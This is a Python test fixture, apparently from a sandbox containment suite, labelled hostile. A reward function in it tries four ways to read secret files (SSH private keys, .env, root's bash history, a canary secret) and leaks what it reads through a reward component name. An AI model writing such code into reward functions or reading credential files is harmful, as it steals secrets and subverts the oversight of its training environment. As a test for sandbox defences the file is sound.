# ruff: noqa
"""Hostile: read secret files planted outside the job folder, every way it knows.

Tries open(), os.open(), np.fromfile and mmap on the canary secret, a fake ~/.ssh key, the
root-owned file next to its job folder and the project checkout's .env; whatever it reads goes
into a component name. Contained: none of those paths exists inside the sandbox.

expect: static
expect-unchecked: runtime
error: line \d+ \[import\]
error-unchecked: FileNotFoundError.*nothing read
"""
import mmap
import os

import numpy as np

PATHS = ["@SECRET_FILE@", "@SECRET_HOME@/.ssh/id_rsa", "@NEIGHBOUR_FILE@", "@REPO_DIR@/.env",
         "/root/.bash_history", "/root/.ssh/id_rsa"]


def compute_reward(state, action, next_state):
    loot, errors = [], []
    for path in PATHS:
        for how in ("open", "os.open", "fromfile", "mmap"):
            try:
                if how == "open":
                    loot.append(open(path).read())
                elif how == "os.open":
                    loot.append(os.read(os.open(path, os.O_RDONLY), 4096).decode())
                elif how == "fromfile":
                    loot.append(bytes(np.fromfile(path, dtype=np.uint8)).decode())
                else:
                    with open(path, "rb") as f:
                        loot.append(mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)[:].decode())
            except OSError as e:
                errors.append(f"{how}({path}): {e.strerror}")
    if not loot:
        raise FileNotFoundError("nothing read: " + "; ".join(errors[:6]))
    total = next_state.torso_velocity[:, 0]
    return total, {"loot " + " ".join(loot)[:500]: total}
